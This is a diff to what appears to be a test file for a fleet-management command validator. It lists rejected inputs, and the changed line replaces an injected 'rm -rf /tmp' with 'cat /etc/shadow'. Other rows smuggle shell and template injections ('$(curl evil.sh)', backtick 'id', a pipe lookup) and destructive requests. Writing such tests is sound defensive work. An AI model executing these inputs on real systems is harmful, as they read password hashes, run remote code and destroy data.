@@ -18,7 +18,7 @@ V = fleet_vocab()
     ("wipe the disks on db-01", "wiping"),
     ("drop database orders on db-01", "dropping"),
     ("shutdown everything", "shutting down"),
-    ("restart nginx on web-01; rm -rf /tmp", "metacharacter"),
+    ("restart nginx on web-01; cat /etc/shadow", "metacharacter"),
     ("restart {{ lookup('pipe','id') }} on web-01", "template"),
     ("install $(curl evil.sh) on web-02", "metacharacter"),
     ("restart nginx`id` on web-01", "metacharacter"),
